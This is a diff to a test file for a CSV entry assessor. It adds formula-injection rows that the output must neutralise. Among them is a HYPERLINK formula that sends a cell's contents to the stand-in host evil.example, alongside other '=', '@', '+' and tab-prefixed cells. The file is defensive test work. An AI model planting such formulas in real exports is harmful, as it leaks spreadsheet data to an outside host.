@@ -40,6 +40,20 @@ const ODD = [
   // Bytes JSON must escape: the JSON byte path hands these rows on.
   'Q18,1,back\\slash,8703.23.01,JP,2025-09-16,10.00,air,',
   'Q19,1,tab\there,8703.23.01,JP,2025-09-16,10.00,air,',
+  // Hostile cells (issue 12): formulas the results CSV must neutralise, a bare CR it must quote, values and
+  // dates both paths must refuse alike.
+  '=1+1,1,acme,8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q20,@SUM(A1:A9),acme,8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q21,1,"=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q22,1,+imp,8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q23,1,-imp,8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q24,1,\timp,8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q25,1,ac\rme,8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q26,1,acme,\t8703.23.01,JP,2025-09-16,10.00,air,',
+  'Q27,1,acme,8703.23.01,JP,9999-01-01,10.00,air,',
+  `Q28,1,acme,8703.23.01,JP,2025-09-16,${'9'.repeat(309)},air,`,
+  'Q29,1,acme,8703.23.01,JP,2025-09-16,1constructor,air,',
+  'Q30,1,acme,8703.23.01,JP,2025-09-16,9999999999999.99,ocean,',
 ];
 
 function fileWithOddRows(lines: number, metalShare: number): Buffer {
@@ -95,6 +109,13 @@ describe('assessEntries: the byte path writes what the string path wrote', () =>
       expect(after.problems).toEqual(before.problems);
       expect(after.summary).toEqual(before.summary);
       expect(after.bytes.equals(before.bytes)).toBe(true);
+      if (format === 'csv') {
+        const text = after.bytes.toString('utf8');
+        expect(text).toContain(`\n"'=1+1",1,acme,8703.23.01,`);
+        expect(text).toContain(`\nQ24,1,"'\timp",8703.23.01,`);
+        expect(text).toContain(`\nQ25,1,"ac\rme",8703.23.01,`);
+        expect(text).not.toContain('\nQ27,');
+      }
     }
   });
 
